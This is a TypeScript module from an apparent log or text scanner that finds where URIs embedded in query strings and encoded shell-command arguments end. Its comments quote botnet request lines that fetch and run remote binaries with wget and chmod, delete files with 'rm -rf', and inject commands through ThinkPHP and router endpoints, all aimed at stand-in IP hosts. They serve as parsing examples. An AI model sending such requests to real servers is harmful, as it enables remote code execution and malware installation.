/**
 * A bare URI that stands inside another URI's query, where form encoding
 * (application/x-www-form-urlencoded, WHATWG URL §5.1: "&" separates the name-value pairs,
 * "+" is a space) tells where it ends: the value of a "?name=" or "&name=" pair, and a shell
 * command's argument whose spaces were encoded (the requests of botnets in every public web
 * server's access log).
 */

import { C_ALNUM, C_ALPHA, C_URI, CLASS } from "../chars.js";
import { MORE_INPUT } from "./more-input.js";

/** longest pair name looked back over */
const MAX_NAME = 64;

/**
 * The URI's scheme at buf[s] is a query pair's value: "?name=" or "&name=" right before it
 * (`GET /wp-login.php?redirect_to=https://blog.example/wp-admin/&reauth=1`,
 * `/authorize?client_id=web&redirect_uri=https://app.example/cb&scope=openid`), or the first
 * pair of a query logged without its "?", after a blank (an IIS log's cs-uri-query field,
 * `GET /login.aspx ReturnUrl=https://intranet.example.com/hr/&lang=en 443`). Looks back at
 * most MAX_NAME bytes, not before lo.
 */
export function queryValueAt(buf: Uint8Array, s: number, lo: number): boolean {
  if (s - 3 < lo || buf[s - 1] !== 0x3d) return false;
  let k = s - 1; // where the name starts
  while (k > lo && s - 1 - k < MAX_NAME && NAME[buf[k - 1]!] === 1) k--;
  if (!(k < s - 1 && k > lo)) return false;
  const b = buf[k - 1];
  return b === 0x3f || b === 0x26 || b === 0x20 || b === 0x09;
}

/** a pair's name: letters, digits and these (WordPress's "redirect_to", "return-url", "u.x", "a[]") */
const NAME = new Uint8Array(256);
for (let b = 0; b < 128; b++) if (CLASS[b]! & C_ALNUM) NAME[b] = 1;
for (const ch of "_-.[]") NAME[ch.charCodeAt(0)] = 1;

/**
 * At an "&" at buf[i] (or HTML's "&amp;" for it: a link's query in escaped markup): 1 when
 * the next pair's "name=" follows, 0 when not, MORE_INPUT when that is not known before n
 * (`final`: the input ends at n — "&c=" there is a pair, "&c" none)
 */
export function nextPairAt(buf: Uint8Array, i: number, n: number, final: boolean): number {
  if (i + 5 > n && !final) return MORE_INPUT;
  let k =
    buf[i + 1] === 0x61 && buf[i + 2] === 0x6d && buf[i + 3] === 0x70 && buf[i + 4] === 0x3b
      ? i + 5
      : i + 1;
  const from = k;
  while (k < n && k - from < MAX_NAME && NAME[buf[k]!] === 1) k++;
  if (k >= n) return final ? 0 : MORE_INPUT;
  return k > from && buf[k] === 0x3d ? 1 : 0;
}

/**
 * The scheme at buf[s] is glued to a word by an encoded space — "+" or "%20" — in a query:
 * a shell command's argument (`/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.14:8088/Mozi.a;chmod+777+…`,
 * ThinkPHP's `…vars[1][]=cd%20/tmp;wget%20http://192.0.2.11/bins/x86;chmod%20777…`,
 * `busybox+wget+http://…+-O+/tmp/gpon`). Not a version-control system's "git+https"
 * (scheme-start.ts gluedHttp leaves that scheme whole).
 */
export function commandArgumentAt(buf: Uint8Array, s: number, lo: number): boolean {
  let w: number; // the glued word's last byte
  if (s - 2 >= lo && buf[s - 1] === 0x2b) w = s - 2;
  else if (s - 4 >= lo && buf[s - 3] === 0x25 && buf[s - 2] === 0x32 && buf[s - 1] === 0x30)
    w = s - 4;
  else return false;
  const word = (CLASS[buf[w]!]! & C_ALPHA) !== 0;
  // … in a query: a "?" or "=" earlier in the same run of non-blank bytes ("Google+https://…"
  // in prose is no command) — looked for past lo too, in an earlier URI's text
  // (`request_uri=http://h/luci/;stok=/locale?country=$(id>\`wget+http://192.0.2.9/t+-O-|sh\`)`):
  // the scanner keeps more than MAX_QUERY_BEFORE bytes before a trigger. Or in a text whose
  // blanks are all encoded, two of them at least with the glue: a web log's User-Agent field
  // (IIS's "Mozilla/5.0+(compatible;+MSIE+7.0++http://www.europarchive.org)", "woriobot++
  // http://worio.com"; CloudFront's "…;%20Lyonl/1.0;%20https://lyonl.com/crawler;%20crawler@…")
  // … a User-Agent's: its comment's "(" or ";" before the URI, or "++" (two blanks) glued
  // to it — not prose whose blanks were encoded ("Follow+us+on+https://plus.google.com/+x")
  let spaces = 1;
  // (not a "++" that opens a line: a diff's added line of a committed patch file,
  // "++https://bugs.launchpad.net/ubuntu/+source/foo")
  let agent = buf[s - 1] === 0x2b && buf[s - 2] === 0x2b && s - 3 >= lo && buf[s - 3]! > 0x20;
  for (let k = w; k >= 0 && w - k <= MAX_QUERY_BEFORE; k--) {
    const b = buf[k]!;
    if (word && (b === 0x3f || b === 0x3d)) return true;
    if (b <= 0x20) break;
    if (b === 0x2b || (b === 0x25 && buf[k + 1] === 0x32 && buf[k + 2] === 0x30)) spaces++;
    else if (b === 0x28 || b === 0x3b) agent = true;
  }
  return agent && spaces >= 2;
}

/** how far back the query's "?" or "=" before a command's argument is looked for */
const MAX_QUERY_BEFORE = 512;

/**
 * Where a command's argument that starts at buf[from] ends: at its first encoded space ("+",
 * "%20"), the shell's command separator (";", "&", "|", "`") or a byte no URI holds; -1 when
 * none comes before `end`, MORE_INPUT when the input may go on past n
 */
export function commandArgumentEnd(
  buf: Uint8Array,
  from: number,
  end: number,
  n: number,
  final: boolean,
): number {
  for (let k = from; k < end; k++) {
    const b = buf[k]!;
    if (b === 0x25) {
      if (k + 2 >= n && !final) return MORE_INPUT;
      if (buf[k + 1] === 0x32 && buf[k + 2] === 0x30) return k;
      continue;
    }
    if (ENDS[b] === 1 || (b < 0x80 && !(CLASS[b]! & C_URI))) return k;
  }
  // (none before maxLength: the URI's usual reading, which gives no record)
  return end === n && !final ? MORE_INPUT : -1;
}

const ENDS = new Uint8Array(256);
for (const ch of "+;&|` ") ENDS[ch.charCodeAt(0)] = 1;
